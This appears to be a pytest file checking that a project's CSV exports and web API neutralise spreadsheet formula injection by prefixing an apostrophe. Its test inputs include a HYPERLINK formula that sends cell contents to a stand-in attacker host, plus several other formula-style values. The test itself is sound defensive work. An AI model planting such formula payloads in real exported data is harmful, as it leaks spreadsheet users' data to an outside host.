"""Every CSV we write is safe to open in a spreadsheet: text starting with =, +, -, @, a tab or
a carriage return gets a leading apostrophe (CLI listings, subscriber export, the web API).
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import httpx
import pytest

from tests.conftest import CliResult
from tests.support.webserver import WebServer

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"clic")'
URL = "https://cyber.gouv.fr/actualites/formule"


def rows(result: CliResult) -> list[dict[str, str]]:
    assert result.code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout)))


@pytest.mark.parametrize("backend", ["sqlite"])  # what a CSV holds owes nothing to the database
def test_csv_cells_never_start_a_formula(
    cli: Callable[..., CliResult], web_server_factory: Callable[..., WebServer], tmp_path: Path
) -> None:
    line = {
        "url": URL,
        "source": "anssi",
        "title": FORMULA,
        "published_at": "2025-02-12",
        "body": "L'Institut national pour l'évaluation et la sécurité de l'intelligence artificielle (INESIA), "
        "créé par le gouvernement, a publié son premier rapport d'évaluation des modèles d'IA.",
        "summary": "@SUM(1+1)",
    }
    (tmp_path / "one.jsonl").write_text(json.dumps(line) + "\n", encoding="utf-8")
    assert cli("publications", "import", str(tmp_path / "one.jsonl")).code == 0
    assert cli("match").code == 0  # a status moves on evidence linked to the commitment only
    status = cli("status", "set", "inesia", "in_progress", "--evidence", URL, "--note", "-1+2", "--by", "Ana")
    assert status.code == 0, status.output

    listed = rows(cli("publications", "list", "--format", "csv"))
    assert [r["title"] for r in listed] == ["'" + FORMULA]
    evidence = rows(cli("evidence", "list", "--format", "csv"))
    assert [r["title"] for r in evidence] == ["'" + FORMULA]
    assert float(evidence[0]["score"]) >= 0  # numbers stay numbers

    assert cli("subscribers", "add", "=1+2@example.org", "--confirmed").code == 0
    exported = rows(cli("subscribers", "export", "--format", "csv"))
    assert [r["email"] for r in exported] == ["'=1+2@example.org"]

    site = web_server_factory()
    answer = httpx.get(site.url + "/api/v1/evidence.csv", params={"commitment": "inesia"}, timeout=15)
    web = list(csv.DictReader(io.StringIO(answer.text)))
    assert [r["publication_title"] for r in web] == ["'" + FORMULA]
    assert not web[0]["score"].startswith("'")
